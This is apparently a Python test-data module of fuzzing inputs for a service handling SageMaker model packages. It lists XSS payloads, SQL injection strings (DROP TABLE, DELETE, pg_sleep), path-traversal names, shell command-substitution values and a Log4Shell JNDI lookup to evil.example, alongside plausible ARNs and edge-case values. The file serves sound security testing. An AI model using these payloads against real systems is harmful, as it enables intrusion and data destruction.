"""Values that are known to break software, and values that pass more checks than random ones, for hostile requests."""

from __future__ import annotations

from typing import Any, Final

ACCOUNT: Final = "123456789012"
REGION: Final = "us-east-1"
ARN: Final = f"arn:aws:sagemaker:{REGION}:{ACCOUNT}"
GROUPS: Final = ("churn", "fraud", "empty")

XSS: Final = (
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "'-alert(1)-'",
    "javascript:alert(1)",
    "</textarea></title><svg/onload=alert(1)>",
    "{{7*7}}{%print(1)%}",
    "<a href=javascript:alert(1) autofocus onfocus=alert(1)>x</a>",
    "<style>*{background:url(//evil.example)}</style>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    '" style=position:fixed onmouseover=alert(1) x="',
)
"""Markup that runs if a page does not escape it."""

SQL: Final = (
    "' OR '1'='1",
    "' OR 1=1 --",
    "'; DROP TABLE groups; --",
    '"; DROP TABLE groups; --',
    "churn' UNION SELECT * FROM groups --",
    "1; ATTACH DATABASE '/tmp/pwned.db' AS p; --",
    "%' AND randomblob(1000000000) AND '%'='",
    "churn%",
    "_____",
    "name); DELETE FROM history; --",
    "?1",
    ":name",
    "$1",
    "\\'; SELECT pg_sleep(10); --",
    "CASE WHEN 1=1 THEN name ELSE rev END",
    "rev DESC, (SELECT 1)",
    "E'\\x27'",
    "/*!50000 OR 1=1*/",
)
"""Text that becomes SQL if statements are built from values."""

PATHS: Final = (
    "../../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "%2e%2e%2f%2e%2e%2fescape",
    "%252e%252e%252fescape",
    "....//....//escape",
    "/etc/passwd",
    "//host/share",
    "C:\\escape",
    "CON",
    "nul.txt",
    "escape\0.txt",
    "escape;.txt",
    "file:///etc/passwd",
    "~/escape",
    "a/" * 500,
    "x" * 1000,
    ".",
    "..",
    "bucket.json",
    "-rf",
    "ünïcödé/☃",
    "new\nline",
    "$(touch escape)",
    "`touch escape`",
)
"""Names that lead elsewhere if they are used as file paths."""

ODD: Final = (
    "",
    " ",
    "\0",
    "a\0b",
    "\u202eesrever",
    "\ufeff",
    "\ufffe",
    "ﬀ",
    "🦀" * 20,
    "Z̷̢̛͉",
    "\r\nX-Injected: 1",
    "null",
    "NaN",
    "1e400",
    "true",
    "[]",
    "{}",
    '{"__proto__": 1}',
    "${jndi:ldap://evil.example/a}",
    "%s%s%n%x",
    "{0.__class__}",
    "a" * 64,
    "a" * 65,
    "-" * 63,
    "a-",
    "churn/0",
    "churn/99999999999",
    "churn/-1",
    "churn/\u0661",
    "churn/1/1",
    "CHURN",
    "arn:",
    "arn:aws:sagemaker:::model-package-group/",
    f"{ARN}:model-package/churn/",
    f"{ARN}:model-package/" + "é" * 300,
    "a" * 5000,
)

PLAUSIBLE: Final = (
    *GROUPS,
    "churn/1",
    "churn/2",
    "fraud/1",
    "lonely",
    "absent",
    *(f"{ARN}:model-package-group/{name}" for name in GROUPS),
    f"{ARN}:model-package/churn/1",
    f"{ARN}:model-package/churn/2",
    f"{ARN}:model-package/fraud/1",
    f"{ARN}:model-package/lonely",
    "arn:aws:sagemaker:eu-west-1:222222222222:model-package/churn/1",
    f"{ARN}:model-card/churn",
    f"arn:aws:iam::{ACCOUNT}:role/service-role/execution",
    "arn:aws:secretsmanager:us-east-1:123456789012:secret:x",
    "s3://models/churn/model.tar.gz",
    "https://models.s3.amazonaws.com/churn/",
    f"{ACCOUNT}.dkr.ecr.us-east-1.amazonaws.com/churn:1",
    "sha256:" + "a" * 64,
    "/metrics",
    "text/csv",
    "application/json",
    "1.2.3",
    "team",
    "Tags.team",
    "ModelPackageName",
    "ModelPackageGroupName",
    "ModelApprovalStatus",
    "CustomerMetadataProperties.accuracy",
    "InferenceSpecification.Containers.Image",
    "CreationTime",
    "2026-11-24T00:00:00Z",
    "Approved",
    "sg-12345678",
    "ml.m5.large",
    '{"Version": "2012-10-17", "Statement": [{"Effect": "Allow", "Principal": "*", '
    '"Action": "sagemaker:DescribeModelPackage", "Resource": "*"}]}',
    '{"model_overview": {"model_name": "churn"}}',
    "0b1f5c1e-7d2a-4a3f-9a4e-1f2d3c4b5a69",
)
"""Text that passes more checks than random text: names, ARNs and URLs of existing resources, and texts for patterns."""

NUMBERS: Final = (0, 1, -1, 2, 5, 100, 101, 2**31 - 1, -(2**31), 2**31, 2**53 + 1, 2**63 - 1, 2**63, 2**64, 10**30)
FLOATS: Final = (0.0, -0.0, 0.5, 1.0, 1e-320, 1e308, -1e308, 1764000000.123, 253402300800.0, -62135596801.0, 1e18)
WRONG: Final[tuple[Any, ...]] = (
    None, True, False, 0, -1, 1.5, 1e308, "", "x", [], {}, [[]], [None], {"": None}, {"a": {"a": {}}}, [1, "x"], "🦀",
)  # fmt: skip
